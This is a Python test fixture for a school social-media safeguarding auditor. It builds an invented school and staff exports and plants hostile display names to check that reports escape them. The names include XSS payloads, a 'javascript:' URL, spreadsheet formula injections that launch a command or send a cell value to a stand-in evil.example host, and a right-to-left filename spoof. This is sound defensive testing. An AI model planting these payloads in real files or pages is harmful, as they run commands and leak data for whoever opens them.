"""A small synthetic school for the report and review tests, built through the real CLI.

Every name here is invented for these tests. Member of staff T01 is connected on Snapchat to
pupils whose display names are hostile (script tags, event handlers, spreadsheet formulas, a
right-to-left override, a 5,000-character name) and whose usernames make them match; T02 has a
phone-contacts export with a parent's number and some name-only look-alikes; T03 sent nothing.

Other test modules import ``build_world``; the tests here check the world is what they assume.
"""

from __future__ import annotations

import json
from dataclasses import dataclass, field
from pathlib import Path

import sqlalchemy as sa

from auditor.db import Database
from auditor.models import Finding
from auditor.reporting import ReportContext

AS_OF = "2026-11-01"
SCHOOL = ("KWS", "Kestrel Way School")

PUPILS = [
    # pupil_id, forename, surname, date_of_birth, leaving_date
    ("P01", "Zephyrine", "Quillfeather", "2013-05-02", ""),
    ("P02", "Orlando", "Vantwest", "2012-01-10", ""),
    ("P03", "Marisol", "Ekwueme", "2014-02-11", ""),
    ("P04", "Tamsin", "Hollowell", "2008-03-03", "2025-07-18"),
    ("P05", "Benedikt", "Aldersley", "2013-09-30", ""),
    ("P06", "Ignatius", "Pemberthy", "2012-06-06", ""),
    ("P07", "Wilhelmina", "Strachwitz", "2013-12-24", ""),
    ("P08", "Caspian", "Ravensworth", "2012-10-19", ""),
    ("P09", "Rosalind", "Featherstonehaugh", "2014-04-04", ""),
    ("P10", "Rosalind", "Featherstonehaugh", "2013-07-07", ""),
]
CONTACTS = [
    # contact_id, pupil_id, title, forename, surname, relationship, mobile
    ("C01", "P01", "Ms", "Ottoline", "Quillfeather", "Mother", "07700 900201"),
    ("C02", "P03", "Mr", "Desmond", "Ekwueme", "Father", "07700 900202"),
]
STAFF = [
    ("T01", "Perpetua", "Grindlewood", "Teacher"),
    ("T02", "Leopold", "Fairweather", "Teacher"),
    ("T03", "Ysolde", "Marchbank", "Teaching Assistant"),
]

SCRIPT = "<script>alert('owned')</script>"
IMG = '<img src=x onerror="alert(1)">'
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
PLUS_CMD = "+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
RLO = "Ignatius \u202egnp.exe"
LONG = "Wilhelmina " + "W" * 4989
HOSTILE = [SCRIPT, IMG, HYPERLINK, PLUS_CMD, AT_SUM, RLO, LONG]

T01_FRIENDS = [
    ("zephyrine.quillfeather", SCRIPT),
    ("orlando.vantwest12", IMG),  # the year agrees with the date of birth: a probable match
    ("marisol.ekwueme", HYPERLINK),
    ("tamsin.hollowell", PLUS_CMD),
    ("benedikt.aldersley", AT_SUM),
    ("ignatius.pemberthy", RLO),
    ("wilhelmina.strachwitz", LONG),
    ("ottoline.quillfeather", "Ottoline Quillfeather"),
] + [(f"walker{n:02d}_{w}", f"{w.title()} Walker{n}") for n, w in enumerate(
    ["heron", "otter", "badger", "kite", "vole", "newt", "stoat", "finch", "wren", "lark", "crane",
     "hare", "plover", "snipe", "teal", "egret", "shrike", "linnet", "dunlin", "gannet"])]

T02_FRIENDS = [
    ("rosalind_f", "Rosalind Featherstonehaugh"),  # two pupils share the name: ambiguous
    ("c.ravensworth", "Caspian Ravenswerth"),  # a misspelt surname: a name-only look-alike
    ("plainfox", "Plain Fox"),
]


@dataclass
class World:
    root: Path
    run: object  # the cli fixture
    audits: list[int] = field(default_factory=list)

    def audit(self, *extra: str, as_of: str = AS_OF) -> int:
        result = self.run("audit", "--as-of", as_of, "--format", "json", "--out", str(self.root / "audit.json"), *extra)
        audit_id = json.loads((self.root / "audit.json").read_text(encoding="utf-8"))["audit_id"]
        self.audits.append(audit_id)
        assert result.exit_code == 0
        return audit_id

    def findings(self) -> list[dict]:
        return json.loads((self.root / "audit.json").read_text(encoding="utf-8"))["findings"]


def _csv(path: Path, header: str, rows: list[tuple]) -> None:
    lines = [header] + [",".join(str(x) for x in row) for row in rows]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")


def write_roster(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    _csv(folder / "schools.csv", "school,name,urn,la,estab", [(SCHOOL[0], SCHOOL[1], "199901", "999", "4999")])
    _csv(folder / "pupils.csv",
         "pupil_id,upn,legal_forename,legal_surname,preferred_forename,middle_names,date_of_birth,school,"
         "year_group,admission_date,leaving_date",
         [(pid, "", fore, sur, "", "", dob, SCHOOL[0], "7", "2020-09-01", left)
          for pid, fore, sur, dob, left in PUPILS])
    _csv(folder / "contacts.csv",
         "contact_id,pupil_id,title,forename,surname,relationship,parental_responsibility,priority,email,mobile_phone",
         [(cid, pid, title, fore, sur, rel, "true", "1", "", phone) for cid, pid, title, fore, sur, rel, phone in CONTACTS])
    _csv(folder / "staff.csv", "staff_id,forename,surname,email,school,role",
         [(sid, fore, sur, f"{sid.lower()}@kws.example.sch.uk", SCHOOL[0], role) for sid, fore, sur, role in STAFF])
    return folder


def snapchat_export(folder: Path, friends: list[tuple[str, str]]) -> Path:
    (folder / "json").mkdir(parents=True, exist_ok=True)
    entries = [{"Username": user, "Display Name": name, "Creation Timestamp": f"2025-0{1 + i % 9}-1{i % 10} 10:00:00 UTC",
                "Last Modified Timestamp": "2025-10-01 10:00:00 UTC", "Source": "added by username"}
               for i, (user, name) in enumerate(friends)]
    doc = {"Friends": entries, "Friend Requests Sent": [], "Blocked Users": [], "Deleted Friends": [],
           "Hidden Friend Suggestions": [], "Ignored Snapchatters": [], "Pending Requests": [], "Shortcuts": []}
    (folder / "json" / "friends.json").write_text(json.dumps(doc, ensure_ascii=False), encoding="utf-8")
    return folder


def vcard_export(path: Path) -> Path:
    path.write_text("BEGIN:VCARD\r\nVERSION:3.0\r\nFN:Des (football)\r\nN:;Des;;;\r\nTEL;TYPE=CELL:07700 900202\r\n"
                    "END:VCARD\r\n", encoding="utf-8")
    return path


def build_world(tmp_path: Path, cli, *, audit: bool = True) -> World:
    """Initialise a database with the Luton policy, the roster and the exports; run one audit."""
    root = tmp_path / "world"
    write_roster(root / "roster")
    t01 = snapchat_export(root / "exports" / "T01" / "mydata~1", T01_FRIENDS)
    t02 = snapchat_export(root / "exports" / "T02" / "mydata~2", T02_FRIENDS)
    vcf = vcard_export(root / "exports" / "T02" / "contacts.vcf")
    cli("init", "--policy", "luton")
    cli("roster", "import", str(root / "roster"))
    cli("import", "--staff", "T01", str(t01))
    cli("import", "--staff", "T02", str(t02), str(vcf))
    world = World(root, cli)
    if audit:
        world.audit()
    return world


def poison(db_url: str, person_ref: str, display_name: str, username: str | None = None) -> None:
    """Put a raw hostile name straight into a stored finding, as a connector that forgot to
    clean it would: the writers must be safe on their own."""
    from auditor.models import Person

    db = Database(db_url)
    people, findings = Person.__table__, Finding.__table__
    with db.begin() as conn:
        pid = conn.execute(sa.select(people.c.id).where(people.c.ref == person_ref)).scalar()
        values = {"display_name": display_name}
        if username is not None:
            values["username"] = username
        conn.execute(findings.update().where(findings.c.person_id == pid).values(**values))
    db.dispose()


def hostile_context(extra_findings: int = 0) -> ReportContext:
    """A report context built by hand (no database): one member of staff, one finding per
    hostile name, with the raw text a careless connector could pass through."""
    explanation = [{"comparison": "prior", "level": "prior", "weight": -9.0},
                   {"comparison": "forename", "level": "exact legal", "weight": 4.0},
                   {"comparison": "surname", "level": "exact", "weight": 4.0},
                   {"comparison": "phone", "level": "exact (E.164)", "weight": 17.8}]
    findings = []
    names = HOSTILE + [f"Plain Name {i}" for i in range(extra_findings)]
    for i, name in enumerate(names, start=1):
        findings.append({
            "id": i, "key": f"{i:032x}", "staff_ref": "T01", "person_ref": f"P{i:02d}", "person_role": "pupil",
            "rule": "current-pupil", "clause": "Staff must not connect with current pupils.", "severity": "breach",
            "status": "probable", "confidence": 0.97, "platform": "snapchat", "relationship": "friend",
            "account": {"display_name": name, "username": name, "profile_url": f"javascript:alert({i})"},
            "source": {"file_sha256": "ab" * 32, "member": f"json/{name}.json"},
            "connected_at": "2025-01-10T10:00:00+00:00", "explanation": explanation, "detail": {"reason": name},
        })
    people = {"T01": {"name": "Perpetua Grindlewood", "kind": "staff", "school": SCHOOL[1], "job_title": "Teacher"}}
    people.update({f["person_ref"]: {"name": f["account"]["display_name"], "kind": "pupil", "school": SCHOOL[1],
                                     "job_title": None} for f in findings})
    audit = {"id": 1, "as_of": AS_OF, "created_at": "2026-11-02T09:00:00+00:00",
             "policy": {"name": "luton", "version": "2023-10-18", "title": "Policy", "summary": "",
                        "no_connection_rule": False},
             "tool_version": "test", "roster_version": "r1", "previous_id": None}
    summary = {"staff_with_exports": 1, "files": 1, "connections": 40, "findings": len(findings)}
    coverage = {"staff_total": 1, "staff_with_exports": 1, "staff_without_exports": [], "files_by_platform": {"snapchat": 1},
                "unresolved_ids": 0, "nameless_contacts": 0}
    ego = {"T01": {"by_platform": {"snapchat": 40}, "flagged_accounts": [], "links": []}}
    exports = {"T01": [{"platform": "snapchat", "layout": "snapchat-2023", "sha256": "ab" * 32, "rows": 40,
                        "kind": "export", "exported_at": None, "purged": False}]}
    return ReportContext(audit, findings, summary, {}, people, coverage, [], ego, {}, [], exports,
                         {"entries": 3, "id": 3, "hash": "cd" * 32})


def test_world_gives_findings_for_every_hostile_name(tmp_path, cli):
    world = build_world(tmp_path, cli)
    findings = world.findings()
    by_person = {f["person_ref"]: f for f in findings if f["staff_ref"] == "T01"}
    assert {"P01", "P02", "P03", "P04", "P05", "P06", "P07", "C01"} <= set(by_person)
    t02 = [f for f in findings if f["staff_ref"] == "T02"]
    assert any(f["status"] == "needs_review" for f in t02)
    assert any(e["comparison"] == "phone" for f in t02 for e in f["explanation"])
